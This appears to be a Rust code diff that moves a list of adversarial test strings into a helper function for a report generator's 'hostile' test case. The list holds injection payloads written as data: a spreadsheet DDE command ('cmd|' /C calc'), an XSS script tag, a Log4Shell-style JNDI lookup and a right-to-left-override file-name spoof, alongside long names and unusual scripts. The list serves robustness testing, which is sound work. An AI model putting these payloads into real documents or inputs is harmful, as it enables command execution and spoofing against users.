@@ -54,26 +54,7 @@ pub fn big() -> Report {
 
 /// Texts that look like formulas, markup or code; names of 200 characters; scripts without a font.
 pub fn hostile() -> Report {
-    let texts: Vec<String> = [
-        "=HYPERLINK(\"http://example.org\";\"Click\")",
-        "+1+cmd|' /C calc'!A0",
-        "-2+3",
-        "@SUM(1+1)*cmd",
-        "<script>alert('x')</script> & <b>bold</b>",
-        "{{ 7*7 }} ${jndi:ldap://example.org/a}",
-        "Maria-Magdalena Freifrau von und zu Hohenstein-Großschönau-Unterdietfurt, verwitwete Gräfin von Schwarzenberg-Sondershausen-Rudolstadt, geborene Prinzessin von Thurn und Taxis-Valsassina-Regensburg-Prag",
-        "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaftsvorstandsmitgliedsversammlungsprotokollführerstellvertretungsausschussvorsitzendenkandidatenlistenverwaltungsstelle",
-        "王小明",
-        "محمد بن عبد الله",
-        "राम कुमार",
-        "Zoe\u{308} Nguye\u{302}\u{303}n\u{202e}gnp.exe",
-        "😀 Emoji 👩‍👩‍👧 O\u{0}\u{7}Brien",
-        "",
-        "   ",
-        "line\nbreak\tand\r\ntab",
-    ]
-    .map(str::to_owned)
-    .into();
+    let texts = texts();
     let number = texts.len() as u64;
     let row = |(n, text): (u64, &String)| {
         vec![
@@ -133,6 +114,29 @@ pub fn hostile() -> Report {
             .collect(),
         ..team::report()
     }
+}
+
+fn texts() -> Vec<String> {
+    [
+        "=HYPERLINK(\"http://example.org\";\"Click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd",
+        "<script>alert('x')</script> & <b>bold</b>",
+        "{{ 7*7 }} ${jndi:ldap://example.org/a}",
+        "Maria-Magdalena Freifrau von und zu Hohenstein-Großschönau-Unterdietfurt, verwitwete Gräfin von Schwarzenberg-Sondershausen-Rudolstadt, geborene Prinzessin von Thurn und Taxis-Valsassina-Regensburg-Prag",
+        "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaftsvorstandsmitgliedsversammlungsprotokollführerstellvertretungsausschussvorsitzendenkandidatenlistenverwaltungsstelle",
+        "王小明",
+        "محمد بن عبد الله",
+        "राम कुमार",
+        "Zoe\u{308} Nguye\u{302}\u{303}n\u{202e}gnp.exe",
+        "😀 Emoji 👩‍👩‍👧 O\u{0}\u{7}Brien",
+        "",
+        "   ",
+        "line\nbreak\tand\r\ntab",
+    ]
+    .map(str::to_owned)
+    .into()
 }
 
 /// A period without anything.
